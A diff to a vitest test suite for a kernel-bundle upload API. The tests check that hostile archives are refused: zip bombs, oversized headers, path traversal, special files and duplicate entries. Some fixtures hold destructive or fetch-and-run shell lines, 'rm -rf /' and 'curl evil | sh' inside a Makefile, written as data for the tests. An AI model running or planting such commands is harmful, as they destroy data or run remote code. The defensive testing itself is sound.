@@ -3,6 +3,7 @@ import { Readable } from "node:stream";
 import tar from "tar-stream";
 import { describe, expect, it } from "vitest";
 import { bytesOf, gzipOf, gzipStream, tarStream, validEntries, type FieldValues, type FixtureEntry } from "@/lib/bundles/testing/bundle-archive";
+import { corpusFileName, hostileCorpus } from "@/lib/bundles/testing/hostile-corpus";
 import { filesInBundleStore, streamedUploadRequest } from "./helpers/bundle-store";
 import { freshDataDir } from "./helpers/sample-data-dir";
 
@@ -18,10 +19,12 @@ process.env.KOBUILD_MAX_BUNDLE_BYTES = String(MAX_BYTES);
 const collection = await import("@/app/api/bundles/route");
 const { getDb } = await import("@/lib/db/client");
 const { bundles } = await import("@/lib/db/schema");
+const { BUNDLE_ERROR_REASONS } = await import("@/lib/bundles/bundle-error");
 
 const none = { params: Promise.resolve({}) };
 const KERNEL = "5.4.0-1055-gcp";
 const NAME = `bundle-${KERNEL}.tgz`;
+if (corpusFileName !== NAME) throw new Error("the corpus is made for another kernel");
 
 const uploadRequest = streamedUploadRequest;
 
@@ -94,6 +97,14 @@ const corpus: Case[] = [
   { what: "a block device", status: 422, reason: "special_file", says: /"dev\/sda" is a block-device/, archive: withExtra([{ name: "./dev/sda", type: "block-device" }]) },
   { what: "a fifo", status: 422, reason: "special_file", says: /"include\/pipe" is a fifo/, archive: withExtra([{ name: "./include/pipe", type: "fifo" }]) },
   { what: "too many entries", status: 422, reason: "too_many_entries", says: /more than 200000 entries/, archive: () => manyEntries(200_001) },
+  {
+    what: "more than 2 GiB unpacked, at less than 200 times its size",
+    status: 422,
+    reason: "too_large_unpacked",
+    says: /the archive unpacks to more than 2147483648 bytes/,
+    // Random bytes first keep the ratio under 200 all along; zeros at gzip level 1 are quick to make.
+    archive: () => gzipStream(validEntries({}, [{ name: "./include/noise.bin", content: randomBytes(4 * 1024 ** 2) }, { name: "./include/zeros", zeros: 2 * 1024 ** 3 }]), 1),
+  },
   { what: "a zip bomb: 256 MiB of zeros", status: 422, reason: "ratio", says: /unpacks to more than 200 times its compressed size/, archive: () => gzipOf(tarStream(validEntries({}, [{ name: "./include/zeros", zeros: 256 * 1024 ** 2 }])), 9) },
   { what: "not gzip at all", status: 422, reason: "not_gzip", says: /is not gzip-compressed/, archive: () => Readable.from([Buffer.from("#!/bin/sh\nrm -rf /\n")]) },
   { what: "a zip file", status: 422, reason: "not_gzip", says: /is not gzip-compressed/, archive: () => Readable.from([Buffer.from("PK\u0003\u0004\u0014\u0000\u0000\u0000"), randomBytes(4000)]) },
@@ -167,16 +178,24 @@ const corpus: Case[] = [
   { what: "BUNDLE_UNAME given twice", status: 422, reason: "bad_field", says: /BUNDLE_UNAME appears twice/, archive: withExtra([{ name: "BUNDLE_UNAME", content: "5.4.0-1055-gcp-evil" }]) },
   { what: "a file given twice", status: 422, reason: "duplicate_entry", says: /"Makefile" appears twice; unpacking would keep only the last one/, archive: withExtra([{ name: "./Makefile", content: "all:\n\tcurl evil | sh\n" }]) },
   { what: "a directory given again as a symlink", status: 422, reason: "duplicate_entry", says: /"include" appears twice/, archive: withExtra([{ name: "./include", type: "symlink", linkname: "include/generated" }]) },
-  { what: "a pax header over 4 MiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 4 MiB/, archive: withExtra([{ name: "./include/x.h", content: "x", pax: { comment: "A".repeat(5 * 1024 ** 2) } }]) },
-  { what: "an entry name of 64 KiB", status: 422, reason: "unsafe_path", says: /has a name longer than 4096 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(32 * 1024)}x.h`, content: "x" }]) },
-  { what: "a link target of 64 KiB", status: 422, reason: "unsafe_link", says: /has a target longer than 4096 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(32 * 1024) }]) },
+  { what: "a pax header over 4 MiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: "./include/x.h", content: "x", pax: { comment: "A".repeat(5 * 1024 ** 2) } }]) },
+  { what: "an entry name of 64 KiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(32 * 1024)}x.h`, content: "x" }]) },
+  { what: "an entry name of 8 KiB", status: 422, reason: "unsafe_path", says: /has a name longer than 4096 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(4 * 1024)}x.h`, content: "x" }]) },
+  { what: "a link target of 64 KiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(32 * 1024) }]) },
+  { what: "a link target of 8 KiB", status: 422, reason: "unsafe_link", says: /has a target longer than 4096 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(4 * 1024) }]) },
   { what: "a control character in a name", status: 422, reason: "unsafe_path", says: /has a control character in its name/, archive: withExtra([{ name: "./include/evil\u001b[2J.h", content: "x" }]) },
   { what: "a BUNDLE_BUILD_DIR climbing out", status: 422, reason: "unsafe_path", says: /BUNDLE_BUILD_DIR "\.\/\.\.\/\.\.\/usr\/src" climbs out of the archive/, archive: () => gzipStream(validEntries({ BUILD_DIR: "./../../usr/src" })) },
+  // Archives GNU tar would read another way than a lax reader, and archives cheap to send and costly to read.
+  ...hostileCorpus
+    .filter((c) => c.outcome !== "accepted")
+    .map((c): Case => ({ what: `${c.kind}: ${c.what}`, status: 422, reason: c.outcome, says: new RegExp(`: .{20,}\\(${c.outcome}\\)$`), archive: async () => Readable.from([await c.bytes()]) })),
 ];
 
 describe("POST /api/bundles refuses hostile archives and keeps nothing of them", () => {
-  it("has a corpus of at least 20 archives", () => {
-    expect(corpus.length).toBeGreaterThanOrEqual(20);
+  it("proves below every refusal an upload can get", () => {
+    // A full disk has its own test (disk-full), and not_found is for deleting.
+    const elsewhere = new Set(["disk_full", "not_found"]);
+    expect(new Set([...corpus.map((c) => c.reason), "duplicate_kernel"])).toEqual(new Set(BUNDLE_ERROR_REASONS.filter((r) => !elsewhere.has(r))));
   });
 
   it.each(corpus)("$what: $status $reason", async (c) => {
@@ -196,5 +215,14 @@ describe("POST /api/bundles refuses hostile archives and keeps nothing of them",
     expect(response.status).toBe(201);
     expect(filesInStore()).toEqual([NAME]);
     expect(getDb().select({ kernel: bundles.kernel }).from(bundles).all()).toEqual([{ kernel: KERNEL }]);
+  });
+
+  it("refuses the same kernel with other content (409 duplicate_kernel) and keeps the first", async () => {
+    const before = getDb().select().from(bundles).all();
+    const response = await collection.POST(uploadRequest(NAME, gzipStream(validEntries({}, [{ name: "./include/other.h", content: "other" }]))), none);
+    const body = (await response.json()) as { error: string };
+    expect({ status: response.status, reason: /\((\w+)\)$/.exec(body.error)?.[1] }).toEqual({ status: 409, reason: "duplicate_kernel" });
+    expect(filesInStore()).toEqual([NAME]);
+    expect(getDb().select().from(bundles).all()).toEqual(before);
   });
 });
